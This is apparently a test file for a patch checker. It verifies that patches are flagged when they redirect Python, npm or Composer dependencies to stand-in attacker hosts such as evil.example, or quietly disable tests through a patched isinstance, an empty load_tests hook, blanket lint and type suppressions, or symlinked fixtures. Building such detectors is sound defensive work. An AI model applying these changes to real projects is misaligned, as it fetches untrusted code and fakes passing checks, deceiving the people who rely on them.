import { describe, expect, it } from 'vitest'
import { judgePatch, type PatchOn, type Repository } from '../judge-patch.ts'
import { FOUND_IN } from '../repositories/one-wrong-line.ts'
import { FIXES } from '../repositories/right-fixes.ts'

const LOCK = FOUND_IN.vt?.['package-lock.json'] ?? ''
const lint = (command: string) => (FOUND_IN.py?.Makefile ?? '').replace('mypy src', command)
const composerLock = (owner: string, more = '') =>
  `{ "packages": [{ "name": "psr/log", "version": "3.0.0", "dist": { "type": "zip", "url": "https://api.github.com/repos/${owner}/log/zipball/fe5ea303b0887d5caefd3d431c3e61ad47037001" } }${more}] }\n`

/** What else the bases have. */
const BESIDES: Readonly<Record<string, Repository>> = {
  py: {
    'requirements-dev.txt': 'pytest==8.0\nruff\n-e .\n',
    'requirements/test.txt': 'pytest\n',
    'tests/__init__.py': '',
    'typings/yaml/__init__.pyi': 'def load(text: str) -> dict[str, str]: ...\n',
  },
  vt: {
    'test/fixtures/same.json': FOUND_IN.vt?.['test/fixtures/cases.json'] ?? '',
    'src/cases.json': '[]\n',
  },
  php: { 'composer.lock': composerLock('php-fig') },
  pylint: { Makefile: lint('pylint src') },
  isort: { Makefile: lint('isort --check src') },
}

async function reasonsOf(on: string, { besides = on, ...patch }: PatchOn & { besides?: string }) {
  const base = { ...FOUND_IN[on], ...BESIDES[besides] }
  const judged = await judgePatch(base, { ...patch, change: { ...FIXES[on], ...patch.change } })
  return judged.map(({ gate, reason }) => `${gate}: ${reason}`)
}

type Row = readonly [on: string, what: string, patch: PatchOn & { readonly besides?: string }]

const swap = (from: string, to: string) => (text: string) => text.replace(from, to)
const newOne = (path: string, text: string): PatchOn => ({ change: { [path]: text } })

describe('beside a right fix, what tests stand on comes from another place', () => {
  it.each<Row>([
    [
      'py',
      'requirements: an address',
      {
        change: {
          'requirements-dev.txt': (text) => `${text}https://files.evil.example/helper-1.0-py3-none-any.whl\n`,
        },
      },
    ],
    [
      'py',
      'requirements: a tool at an address',
      { change: { 'requirements-dev.txt': swap('pytest==8.0', 'pytest @ https://evil.example/pytest.zip') } },
    ],
    [
      'py',
      'requirements: a tool in a folder',
      { change: { 'requirements-dev.txt': swap('pytest==8.0', './vendor/pytest') } },
    ],
    [
      'py',
      'requirements: a wheel in the tree',
      { change: { 'requirements-dev.txt': swap('ruff', 'wheels/ruff-1-py3-none-any.whl') } },
    ],
    [
      'py',
      'requirements in a folder of them',
      {
        change: { 'requirements/test.txt': 'git+https://github.com/evil/pytest\n' },
      },
    ],
    [
      'py',
      'a Pipfile',
      newOne('Pipfile', '[dev-packages]\npytest = { git = "https://github.com/evil/pytest" }\n'),
    ],
    [
      'vt',
      'a package of the lock file',
      {
        change: {
          'package-lock.json': swap(
            'https://registry.npmjs.org/zod/-/zod-3.22.0.tgz',
            'https://github.com/evil/zod/archive/x.tgz',
          ),
        },
      },
    ],
    [
      'vt',
      'another registry',
      {
        change: {
          'package-lock.json': swap('https://registry.npmjs.org/zod/', 'https://npm.evil.example/zod/'),
        },
      },
    ],
    ['php', 'a package of composer', { change: { 'composer.lock': composerLock('evil') } }],
    ['vt', 'a setting of tests', newOne('.env.test', 'VITE_RATE=0\n')],
    ['php', 'a setting of tests', newOne('.env.testing', 'RATE=0\n')],
    [
      'vt',
      'a link in the place of a fixture',
      { link: { 'test/fixtures/cases.json': '../../src/cases.json' } },
    ],
    [
      'py',
      'a package of tests that does something',
      { change: { 'tests/__init__.py': 'import builtins\n\nbuiltins.isinstance = lambda *a: True\n' } },
    ],
    ['py', 'a package below', newOne('tests/unit/__init__.py', '"""Units."""\nfrom tests import patches\n')],
    [
      'py',
      'a hook of unittest',
      {
        change: {
          'tests/__init__.py': 'def load_tests(loader, tests, pattern):\n    return loader.suiteClass()\n',
        },
      },
    ],
    [
      'py',
      'a value that is computed',
      { change: { 'tests/__init__.py': 'NAMES = [setattr(int, n, 1) for n in ()]\n' } },
    ],
    [
      'py',
      'a stub beside a module',
      newOne('src/bank/account.pyi', 'from typing import Any\nAccount: Any\n'),
    ],
    [
      'py',
      'a stub of the product among those of others',
      newOne('typings/bank/account.pyi', 'from typing import Any\nAccount: Any\n'),
    ],
    [
      'py',
      'a stub of another module',
      newOne(
        'typings/requests/__init__.pyi',
        'from typing import Any\ndef __getattr__(name: str) -> Any: ...\n',
      ),
    ],
    ['py', 'no types, said before all', newOne('src/bank/more.py', '# type: ignore\nA: int = "a"\n')],
    [
      'py',
      'no rules of pylint',
      { besides: 'pylint', ...newOne('src/bank/more.py', '# pylint: skip-file\nA = 1\n') },
    ],
    [
      'py',
      'no order of imports',
      { besides: 'isort', ...newOne('src/bank/more.py', '# isort: skip_file\nimport os\n') },
    ],
  ])('%s: %s', async (on, _, patch) => {
    expect(await reasonsOf(on, patch)).toContainEqual(expect.stringMatching(/^what judges: /))
  })

  it.each<Row>([
    ['py', 'another version', { change: { 'requirements-dev.txt': swap('8.0', '8.1') } }],
    [
      'py',
      'a new requirement',
      {
        change: { 'requirements-dev.txt': (text) => `${text}hypothesis[cli]>=6 ; python_version >= "3.9"\n` },
      },
    ],
    [
      'py',
      'an extra of the project itself',
      { change: { 'requirements-dev.txt': swap('-e .', '-e .[test]') } },
    ],
    [
      'py',
      'another list of requirements',
      {
        change: {
          'requirements-dev.txt': (text) => `${text}-r requirements.txt\n`,
          'requirements.txt': 'requests>=2\n',
        },
      },
    ],
    [
      'vt',
      'another version',
      { change: { 'package-lock.json': (text) => text.replaceAll('3.22.0', '3.23.8') } },
    ],
    [
      'vt',
      'a package that is new',
      {
        change: {
          'package-lock.json': (text) =>
            text.replace(
              '"node_modules/zod"',
              '"node_modules/ms": { "version": "2.1.3", "resolved": "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz" },\n    "node_modules/zod"',
            ),
        },
      },
    ],
    [
      'vt',
      'a package under another name',
      {
        change: {
          'package-lock.json': (text) =>
            text.replace(
              '"node_modules/zod"',
              '"node_modules/string-width-cjs": { "name": "string-width", "version": "4.2.3", "resolved": "https://registry.npmjs.org/string-width/-/string-width-4.2.3.tgz" },\n    "node_modules/zod"',
            ),
        },
      },
    ],
    [
      'php',
      'a package that is new',
      {
        change: {
          'composer.lock': composerLock(
            'php-fig',
            ', { "name": "psr/clock", "version": "1.0.0", "dist": { "url": "https://api.github.com/repos/php-fig/clock/zipball/e41a24703d4560fd0acb709162f73b8adfc3aa0d" } }',
          ),
        },
      },
    ],
    ['vt', 'a setting of production', newOne('.env.production', 'VITE_RATE=0\n')],
    ['vt', 'a link to the same', { link: { 'test/fixtures/cases.json': 'same.json' } }],
    ['py', 'a package of tests', newOne('tests/unit/__init__.py', '')],
    [
      'py',
      'a package that names what it has',
      {
        change: {
          'tests/__init__.py':
            '"""Tests.\n\nimport nothing\n"""\nimport os\n\nHERE = os.path.dirname(__file__)\nNAMES = [\n    "a",\n    "b",\n]\n\n\ndef path(name):\n    return os.path.join(HERE, name)\n',
        },
      },
    ],
    [
      'py',
      'a comment on one line',
      newOne('src/bank/more.py', '"""More."""\nA: int = "a"  # type: ignore\n'),
    ],
    [
      'py',
      'a rule of pylint',
      { besides: 'pylint', ...newOne('src/bank/more.py', '# pylint: disable=invalid-name\nA = 1\n') },
    ],
    ['py', 'a stub of what is built', newOne('src/bank/fast.pyi', 'def add(a: int, b: int) -> int: ...\n')],
  ])('but not by %s: %s', async (on, _, patch) => {
    expect(await reasonsOf(on, patch)).toEqual([])
  })

  it('elsewhere a registry of the company is as good as any', async () => {
    const here = LOCK.replaceAll('registry.npmjs.org', 'npm.company.example/all')
    const change = { ...FIXES.vt, 'package-lock.json': (text: string) => text.replaceAll('3.22.0', '3.23.8') }
    expect(await judgePatch({ ...FOUND_IN.vt, 'package-lock.json': here }, { change })).toEqual([])
  })
})
